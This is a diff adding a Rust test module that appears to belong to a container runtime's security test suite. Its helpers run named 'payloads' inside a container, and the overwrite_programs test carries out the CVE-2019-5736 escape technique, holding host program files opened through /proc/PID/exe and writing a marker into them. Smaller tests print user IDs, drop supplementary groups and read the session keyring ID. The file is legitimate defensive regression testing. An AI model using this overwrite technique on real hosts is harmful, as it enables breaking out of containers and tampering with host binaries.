@@ -1,0 +1,100 @@
+//! Attackers that a shell cannot be. The test binary is static, so it runs inside a container as it is: every function here is
+//! an ignored test, bound into the rootfs and called by name.
+use crate::support::Bundle;
+use std::collections::HashSet;
+use std::fs::{self, File, OpenOptions};
+use std::io::Write;
+use std::os::fd::AsRawFd;
+use std::os::unix::fs::MetadataExt;
+use std::time::{Duration, Instant};
+
+/// Where [`install`] puts the binary.
+pub const PATH: &str = "/bin/payload";
+
+/// What follows the program's name to run one payload.
+pub fn arguments(name: &str) -> Vec<String> {
+    let name = format!("payloads::{name}");
+    [&name, "--exact", "--ignored", "--nocapture", "--test-threads=1"].map(str::to_owned).to_vec()
+}
+
+/// Binds this binary into the bundle.
+pub fn install(bundle: &Bundle) {
+    let own = std::env::current_exe().expect("our own path");
+    bundle.mount(PATH, "bind", own.to_str().expect("plain"), &["bind", "ro"]);
+}
+
+/// Installs it and makes it what the container runs.
+pub fn run(bundle: &Bundle, name: &str) {
+    install(bundle);
+    let arguments = arguments(name);
+    let all: Vec<&str> = std::iter::once(PATH).chain(arguments.iter().map(String::as_str)).collect();
+    bundle.args(&all);
+}
+
+/// The lines a payload printed, without those of the test framework.
+pub fn lines(stdout: &str) -> Vec<String> {
+    stdout.lines().filter_map(|line| line.split_once("payload: ")).map(|(_, text)| text.to_owned()).collect()
+}
+
+fn say(text: impl std::fmt::Display) {
+    println!("payload: {text}");
+}
+
+/// CVE-2019-5736: takes hold of every foreign program file that shows up as some /proc/PID/exe, and writes to it as soon as
+/// nobody runs it any more. Works until `/tmp/stop` or /stop shows up.
+#[test]
+#[ignore = "runs inside a container"]
+fn overwrite_programs() {
+    let inode = |path: &str| fs::metadata(path).map(|m| (m.dev(), m.ino())).ok();
+    let mut known: HashSet<_> =
+        ["/proc/self/exe", "/bin/busybox", "/bin/sh", "/usr/bin/sh"].iter().filter_map(|p| inode(p)).collect();
+    let end = Instant::now() + Duration::from_secs(60);
+    let mut held: Vec<File> = Vec::new();
+    say("watching");
+    while Instant::now() < end && !fs::exists("/tmp/stop").unwrap_or(false) {
+        for entry in fs::read_dir("/proc").expect("read /proc").flatten() {
+            let exe = entry.path().join("exe");
+            let Ok(file) = File::open(&exe) else { continue };
+            let Ok(meta) = file.metadata() else { continue };
+            if known.insert((meta.dev(), meta.ino())) {
+                say(format_args!("took hold of {exe:?}, {} bytes, owner {}", meta.len(), meta.uid()));
+                held.push(file);
+            }
+        }
+        // ETXTBSY while it still runs somewhere, EROFS or EPERM where it is defended.
+        held.retain(|file| {
+            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
+            let Ok(mut writable) = OpenOptions::new().append(true).open(path) else { return true };
+            let written = writable.write_all(b"OVERWRITTEN");
+            say(format_args!("wrote: {written:?}"));
+            false
+        });
+    }
+}
+
+/// Effective and real uid, as a setuid program sees them.
+#[test]
+#[ignore = "runs inside a container"]
+fn print_ids() {
+    say(format_args!("euid {} uid {}", nix::unistd::geteuid(), nix::unistd::getuid()));
+}
+
+/// Drops every supplementary group.
+#[test]
+#[ignore = "runs inside a container"]
+fn drop_groups() {
+    say(format_args!("setgroups: {:?}", nix::unistd::setgroups(&[])));
+}
+
+/// Serial number of the session keyring.
+#[test]
+#[ignore = "runs inside a container"]
+fn print_keyring() {
+    say(format_args!("keyring {}", session_keyring()));
+}
+
+/// keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, create = false).
+pub fn session_keyring() -> i64 {
+    // SAFETY: takes and returns plain numbers.
+    unsafe { libc::syscall(libc::SYS_keyctl, libc::KEYCTL_GET_KEYRING_ID, libc::KEY_SPEC_SESSION_KEYRING, 0) }
+}
